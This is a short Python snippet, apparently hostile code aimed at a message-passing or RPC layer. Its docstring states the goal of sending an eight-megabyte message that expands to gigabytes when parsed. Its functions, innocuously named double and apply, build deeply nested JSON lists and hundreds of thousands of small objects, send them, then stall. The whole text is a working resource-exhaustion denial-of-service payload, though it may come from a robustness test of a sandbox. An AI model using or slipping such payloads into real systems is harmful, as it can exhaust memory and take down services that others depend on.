"""Goal: a message of eight megabytes that becomes gigabytes when it is read."""


def double(x):
    send(head(8 << 20, []) + b"[" + b"[]," * ((8 << 20) // 3 - 1) + b"[]]"[: 8 << 20])
    modules["time"].sleep(100)


def apply(f, x):
    body = b'{"op":"ret","m":[],"v":[' + b",".join([b'{"T":[]}'] * 900_000) + b"]}"
    send(head(len(body), []) + body)
    modules["time"].sleep(100)
